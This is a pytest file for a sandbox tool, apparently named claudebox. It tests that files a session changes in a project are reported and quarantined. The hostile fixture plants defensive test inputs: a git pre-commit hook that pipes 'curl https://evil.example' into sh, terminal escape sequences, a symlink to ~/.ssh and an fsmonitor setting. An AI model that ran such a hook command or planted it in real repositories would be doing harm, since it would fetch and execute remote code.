"""What is said of the difference that a box has made, and what is not."""

import errno
import os
import stat
import subprocess
from pathlib import Path

import pytest

from claudebox import files
from claudebox.features.guard import plan_guard
from claudebox.host.git.index import find_hidden
from claudebox.host.tree import Tree
from claudebox.host.walk import walk_project
from claudebox.model import RW, Mount, Origin, Trace, Ways
from claudebox.overlay.comparison import Comparison, Leftover, take_picture
from claudebox.overlay.git import Account
from claudebox.overlay.history import Carried, Carry
from claudebox.overlay.places import find_places
from claudebox.overlay.report import Quarantine, remove
from claudebox.overlay.screen import View, rows
from claudebox.overlay.table import WANTED
from claudebox.text import WIDTH, Style, width
from golden import Golden
from hosts.machine import plant

P = "/home/alice/shop"
VIEW = View(P, "/home/alice", Style(False))
NAMES = (".mcp.json", "d/.mcp.json", *(f".envrc.{number}" for number in range(9)))
CARRIED = Carried(
    tuple(Carry(name, f"reason of {name[:5]}", ("commit 3 of branch fix",), 10 * "1234") for name in NAMES),
    ("new commits were not looked at: x",),
)
BEFORE = """
~/shop/.git/HEAD: ref: refs/heads/main\\n
~/shop/.git/objects/
~/shop/.git/refs/
~/shop/.git/config: [core]\\n\\tbare = false\\n
~/shop/.git/hooks/pre-commit.sample*
~/shop/.vscode/settings.json: {}\\n
~/shop/.idea/workspace.xml: <a/>
~/shop/package.json: {"scripts": {"test": "jest"}}\\n
~/shop/pyproject.toml: [build-system]\\nrequires = ["hatchling"]\\n
~/shop/Makefile: all:\\n\\techo\\n
~/shop/inner -> src
~/shop/src/main.py
"""


def change(tmp_path: Path, *changes: tuple[str, str | None], before: str = BEFORE) -> list[Leftover]:
    """What is left when files are written (or removed, or turned into symlinks: `-> target`) meanwhile."""
    tree = plant(tmp_path, before)
    found = find_places(tree, (P,), walk_project(tree, P, WANTED), Account("/home/alice"), Ways())
    mounts = [Mount(RW, P, Origin.of_rule("project"), source=P)]
    guard = plan_guard(tree, found.guarded, mounts, []).replace(others=found.others, roots=(P,))
    picture = take_picture(tree, guard)
    for name, text in changes:
        path = tmp_path / P.lstrip("/") / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        if text is not None and text.startswith("-> "):
            path.symlink_to(text[3:])
        elif text is not None:
            path.write_text(text)
            path.chmod(0o644)  # as it was, whatever the umask
    return Comparison(Tree(str(tmp_path)), guard, "/home/alice", picture).leftovers()


def said(tmp_path: Path, *changes: tuple[str, str | None]) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(one.what, one.path.removeprefix(f"{P}/"), one.details) for one in change(tmp_path, *changes)]


@pytest.mark.parametrize(
    "quiet",
    [
        ("package.json", '{"scripts": {"test": "x"}}'),
        ("Makefile", "all:\n\trm\n"),
        (".git/config", '[core]\n\tbare = false\n[remote "x"]\n\turl = ../x\n'),
        (".git/hooks/pre-push.sample", "x"),
        (".vscode/settings.json", None),
        (".gitignore", "x"),
        (".direnv/python-3.11/venv/x.py", "x"),
        (".storybook/node_modules/x.js", "x"),
    ],
    ids=lambda change: change[0],
)
def test_what_does_not_matter_is_not_said(tmp_path: Path, quiet: tuple[str, str | None]) -> None:
    assert said(tmp_path, quiet) == []


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (".git/config", "[core]\n\tfsmonitor = ./x\n", ("changed", ".git/config", ("core.fsmonitor = ./x",))),
        (".git/config.worktree", "[alias]\n\tx = !y\n", ("new", ".git/config.worktree", ())),
        ("sub/.vscode/settings.json", "{2}\n", ("new", "sub/.vscode/settings.json", ())),
        (".vscode/settings.json", "{1}", ("changed", ".vscode/settings.json", ())),
        ("copy/.vscode/settings.json", "{}\n", ("new", "copy/.vscode/settings.json", ())),
        ("inner", "-> /etc", ("changed", "inner", ("-> /etc",))),
        ("a/.unknown", "x", ("new", "a/.unknown", ())),
    ],
)
def test_what_matters_is_said(tmp_path: Path, name: str, text: str, expected: tuple[str, str, tuple[str, ...]]) -> None:
    assert said(tmp_path, (name, text)) == [expected]


def hostile(tmp_path: Path) -> list[Leftover]:
    return change(
        tmp_path,
        (".git/commondir", "../x\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\ncurl https://evil.example | sh\n"),
        (".vscode/settings.json", '{"a": "\x1b[2J"}\n'),
        ("vendor/x/.git/HEAD", "ref: refs/heads/main\n"),
        ("vendor/x/.git/objects/x", ""),
        ("vendor/x/.git/config", "[core]\n" + "".join(f"\tpager = {number}\n" for number in range(9))),
        ("a\x1b[1m/.envrc", "x" * 200 + "\n" + "line\n" * 40),
        ("keys", "-> /home/alice/.ssh"),
        (".toolrc", "x"),
        *((f"sub{number}/.mcp.json", "{}") for number in range(9)),
    )


@pytest.mark.parametrize("scene", ["report", "contents", "whole", "moved"])
def test_texts_are_exactly_these(tmp_path: Path, golden: Golden, scene: str) -> None:
    leftovers = hostile(tmp_path)
    directory = "/home/alice/.claudebox/instances/c3085d9538be063a/quarantine/1"
    texts = {
        "report": VIEW.report(rows(leftovers)) + VIEW.carried(CARRIED),
        "contents": VIEW.contents(rows(leftovers[:8])),
        "whole": VIEW.whole(leftovers, CARRIED),
        "moved": VIEW.moved(directory, [".mcp.json", "a b"], [f"{P}/.git/config"], ".mcp.json", {f"{P}/x\n": "Busy"}),
    }
    golden.check_scene("report.txt", scene, texts[scene])
    assert texts[scene].replace("\n", "").isprintable()
    assert scene in ("whole", "moved") or [line for line in texts[scene].splitlines() if width(line) > WIDTH] == []


@pytest.mark.parametrize("form", ["sha1", "sha256"])
@pytest.mark.parametrize("version", ["2", "3", "4"])
@pytest.mark.git
def test_what_git_hides_is_found(tmp_path: Path, version: str, form: str) -> None:
    def git(*words: str) -> None:
        nothing = {"HOME": str(tmp_path), "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
        subprocess.run(["git", *words], cwd=tmp_path, check=True, env={"PATH": os.environ["PATH"], **nothing})

    git("init", "-q", f"--object-format={form}")
    for number in range(40):
        (tmp_path / f"directory{number % 7}").mkdir(exist_ok=True)
        (tmp_path / f"directory{number % 7}" / f"file{number}").write_text("x")
    git("add", ".")
    git("update-index", "--index-version", version)
    assert find_hidden((tmp_path / ".git/index").read_bytes()) == set()
    git("update-index", "--assume-unchanged", "directory3/file10")
    git("update-index", "--skip-worktree", "directory4/file11")
    content = (tmp_path / ".git/index").read_bytes()
    assert find_hidden(content) == {"directory3/file10", "directory4/file11"}
    for cut in (1, 11, 40, 100, len(content) // 2):
        assert find_hidden(content[:cut]) is None


# What is moved away lands in the quarantine and nowhere else, whatever another box does meanwhile.


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name in ("project", "home", "state"):
        (tmp_path / name).mkdir()
    (tmp_path / "home" / ".bashrc").write_text("mine")
    return tmp_path / "project"


@pytest.fixture(params=["same file system", "another one"])
def place(request: pytest.FixtureRequest, project: Path, monkeypatch: pytest.MonkeyPatch) -> Quarantine:
    def refuse(*_: object, **__: object) -> None:
        raise OSError(errno.EXDEV, "another file system")

    if request.param == "another one":
        monkeypatch.setattr(files, "rename", refuse)
    return Quarantine(str(project.parent / "state"))


@pytest.mark.req("INST-02")
def test_symlink_that_was_moved_first_leads_nothing_out(project: Path, place: Quarantine) -> None:
    (project / "a").symlink_to("../home")
    place.take(str(project), "a", None)
    (project / "a").mkdir()
    (project / "a" / ".bashrc").write_text("planted")
    with pytest.raises(NotADirectoryError):
        place.take(str(project), "a/.bashrc", None)
    assert (project.parent / "home" / ".bashrc").read_text() == "mine"
    assert os.readlink(f"{place.directory}/a") == "../home"


def test_directory_is_never_removed_in_the_place_of_a_symlink(project: Path) -> None:
    with pytest.raises(IsADirectoryError):
        remove(str(project.parent / "home"))


@pytest.mark.req("INST-02")
def test_nothing_is_moved_onto_something(project: Path, place: Quarantine) -> None:
    for text in ("first", "second"):
        (project / "x").write_text(text)
        with pytest.raises(FileExistsError) if text == "second" else pytest.MonkeyPatch.context():
            place.take(str(project), "x", None)
    assert Path(place.directory, "x").read_text() == "first"
    assert (project / "x").read_text() == "second"


@pytest.mark.req("INST-02")
def test_directory_with_everything_in_it(project: Path, place: Quarantine) -> None:
    (project / "d/e").mkdir(parents=True)
    (project / "d/e/file").write_text("text")
    (project / "d/e/file").chmod(0o755)
    (project / "d/link").symlink_to("/etc")
    os.mkfifo(project / "d/fifo")
    place.take(str(project), "d", None)
    assert not (project / "d").exists()
    assert Path(place.directory, "d/e/file").read_text() == "text"
    assert os.readlink(f"{place.directory}/d/link") == "/etc"


@pytest.mark.req("INST-02")
def test_symlink_comes_back_as_one(project: Path, place: Quarantine) -> None:
    (project / "x").symlink_to("/etc/passwd")
    place.take(str(project), "x", Trace((), b"inner", stat.S_IFLNK | 0o777))
    assert os.readlink(project / "x") == "inner"


@pytest.mark.req("INST-02")
def test_file_comes_back_as_it_was(project: Path, place: Quarantine) -> None:
    (project / "x").write_text("planted")
    place.take(str(project), "x", Trace((), b"old", stat.S_IFREG | 0o640))
    assert (project / "x").read_text() == "old"
    assert stat.S_IMODE((project / "x").stat().st_mode) == 0o640
